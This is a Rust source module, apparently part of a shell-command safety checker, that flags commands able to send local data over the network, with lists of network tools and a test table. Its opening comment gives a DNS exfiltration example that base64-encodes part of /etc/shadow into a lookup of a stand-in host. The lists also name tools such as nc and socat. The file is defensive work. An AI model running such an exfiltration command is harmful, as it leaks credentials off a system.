//! A read cannot carry data away. A program that sends its arguments over
//! the network (a URL, a name to look up, a host to contact, a server to
//! ask) is a read only when every argument is written out: a substitution,
//! a variable, a glob or a file name from `find` could put local data into
//! the request (`dig $(head -c 30 /etc/shadow | base64).x.example`). And a
//! program that sends its standard input somewhere (`ssh`, `nc`) carries
//! whatever the line feeds it.

use crate::invocation::{Arg, ArgShape};

/// Programs whose arguments leave the machine: HTTP clients, name lookups,
/// probes, remote shells and copies, database and cloud clients.
const SENDS_ARGUMENTS: &[&str] = &[
    // HTTP and file transfer
    "curl",
    "wget",
    "wget2",
    "http",
    "https",
    "xh",
    "xhs",
    "ftp",
    "tftp",
    "sftp",
    "lftp",
    // container registries
    "skopeo",
    "crane",
    "regctl",
    // name lookups
    "dig",
    "host",
    "nslookup",
    "drill",
    "delv",
    "kdig",
    "getent",
    "resolvectl",
    "systemd-resolve",
    "whois",
    "avahi-resolve",
    "avahi-resolve-host-name",
    // probes
    "ping",
    "ping6",
    "fping",
    "fping6",
    "arping",
    "traceroute",
    "traceroute6",
    "tracepath",
    "tracepath6",
    "tcptraceroute",
    "mtr",
    "nmap",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "telnet",
    "ssh-keyscan",
    // remote shells and copies
    "ssh",
    "slogin",
    "scp",
    "rsync",
    "sshpass",
    // database and directory clients that connect where they are told
    "mysql",
    "mariadb",
    "psql",
    "pg_isready",
    "mysqladmin",
    "redis-cli",
    "ldapsearch",
    "snmpget",
    "snmpwalk",
    "snmpbulkwalk",
    // cloud CLIs: a bucket or resource name is a request to someone's server
    "aws",
    "az",
    "gcloud",
    "gsutil",
    "doctl",
    "hcloud",
    "vault",
    "consul",
    "nomad",
];

/// `openssl` subcommands that connect to a server.
const OPENSSL_CLIENTS: &[&str] = &["s_client", "s_time", "ocsp"];

/// git subcommands that talk to a remote (`git ls-remote URL`).
const GIT_REMOTES: &[&str] = &[
    "ls-remote",
    "fetch",
    "pull",
    "push",
    "clone",
    "archive",
    "remote",
    "submodule",
];

/// Programs that send their standard input to the other end.
const SENDS_STDIN: &[&str] = &[
    "ssh", "slogin", "sshpass", "nc", "ncat", "netcat", "socat", "telnet",
];

/// A literal word, or a URL with brackets (`http://[::1]:9090/`): what a
/// bracket can match is fixed by the pattern, while `*` and `?` could
/// bring in the names of local files.
fn literal_enough(arg: &Arg<'_>) -> bool {
    match arg.shape {
        ArgShape::Literal => true,
        ArgShape::Glob => arg.as_str().contains("://") && !arg.as_str().contains(['*', '?']),
        ArgShape::Dynamic | ArgShape::Inert => false,
    }
}

/// Does `program` send its arguments over the network?
fn sends_arguments(program: &str, args: &[Arg<'_>]) -> bool {
    if program == "openssl" {
        return args
            .first()
            .is_some_and(|a| OPENSSL_CLIENTS.contains(&a.as_str()));
    }
    if program == "git" {
        return args.iter().any(|a| GIT_REMOTES.contains(&a.as_str()));
    }
    SENDS_ARGUMENTS_SET.contains_key(program)
}

/// [`SENDS_ARGUMENTS`] as a set.
static SENDS_ARGUMENTS_SET: std::sync::LazyLock<crate::commands::FastMap<()>> =
    std::sync::LazyLock::new(|| SENDS_ARGUMENTS.iter().map(|p| (*p, ())).collect());

/// Why running `program args…` with this input could carry local data
/// away, if it could: an argument that is not literal, or data on standard
/// input of a program that sends it.
pub(crate) fn carries_data(program: &str, args: &[Arg<'_>], stdin_data: bool) -> Option<String> {
    if (!stdin_data && args.iter().all(Arg::is_literal)) || !sends_arguments(program, args) {
        return None;
    }
    if let Some(arg) = args.iter().find(|a| !literal_enough(a)) {
        return Some(format!(
            "`{}` is computed, and {program} sends its arguments over the network: \
             a read's arguments must be literal so it cannot carry data away",
            arg.raw
        ));
    }
    if stdin_data && SENDS_STDIN.contains(&program) {
        return Some(format!(
            "{program} sends what the line feeds it to the other end, which carries data away"
        ));
    }
    None
}

#[cfg(test)]
mod tests {
    use super::carries_data;
    use crate::invocation::{Arg, ArgShape};
    use std::borrow::Cow;

    fn dynamic(raw: &'static str) -> Arg<'static> {
        Arg {
            text: Cow::Borrowed(raw),
            raw,
            shape: ArgShape::Dynamic,
        }
    }

    #[test]
    fn table() {
        let lit = Arg::literal;
        // (program, args, stdin fed, carries data)
        let rows: &[(&str, Vec<Arg<'static>>, bool, bool)] = &[
            ("dig", vec![lit("+short"), lit("example.com")], false, false),
            ("dig", vec![dynamic("$(cat f).x")], false, true),
            ("curl", vec![dynamic("$URL")], false, true),
            ("ssh", vec![lit("host"), lit("cat")], true, true),
            ("ssh", vec![lit("host"), lit("uptime")], false, false),
            ("nc", vec![lit("-z"), lit("h"), lit("22")], false, false),
            ("openssl", vec![lit("s_client"), dynamic("$H")], false, true),
            ("openssl", vec![lit("x509"), dynamic("$F")], false, false),
            ("cat", vec![dynamic("$F")], true, false),
            (
                "git",
                vec![lit("ls-remote"), dynamic("$(cat f)")],
                false,
                true,
            ),
            ("git", vec![lit("log"), dynamic("$F")], false, false),
        ];
        for (program, args, stdin, expected) in rows {
            assert_eq!(
                carries_data(program, args, *stdin).is_some(),
                *expected,
                "{program} {args:?}"
            );
        }
    }
}
